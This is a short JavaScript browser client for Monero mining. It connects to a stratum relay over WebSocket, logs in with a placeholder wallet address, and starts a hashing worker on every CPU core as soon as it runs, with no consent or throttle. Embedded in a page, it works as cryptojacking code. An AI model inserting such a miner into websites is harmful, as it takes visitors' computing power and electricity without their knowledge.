// A client of Monero's stratum over WebSocket, with workers.
const address = '48' + 'B'.repeat(93);
const state = { hashrate: 0, shares: 0, job: null, threads: [] };
const ws = new WebSocket('wss://relay.example.net/');
let id = 1;
const call = (method, params) => ws.send(JSON.stringify({ id: id++, jsonrpc: '2.0', method, params }));
ws.onopen = () => call('login', { login: address, pass: 'x', agent: 'web/1.0', algo: ['rx/0'] });
ws.onmessage = (event) => {
  const message = JSON.parse(event.data);
  const job = message.method === 'job' ? message.params : message.result && message.result.job;
  if (!job) return;
  state.job = job;
  for (const thread of state.threads) thread.postMessage({ type: 'job', blob: job.blob, job_id: job.job_id, target: job.target, height: job.height, seed_hash: job.seed_hash });
};
for (let i = 0; i < (navigator.hardwareConcurrency || 2); i += 1) {
  const thread = new Worker('hash-worker.js', { type: 'module' });
  thread.onmessage = ({ data }) => {
    if (data.type === 'share') call('submit', { id: 'w', job_id: data.job_id, nonce: data.nonce, result: data.result });
    if (data.type === 'hashrate') state.hashrate += data.value;
  };
  state.threads.push(thread);
}
setInterval(() => call('keepalived', { id: 'w' }), 60000);
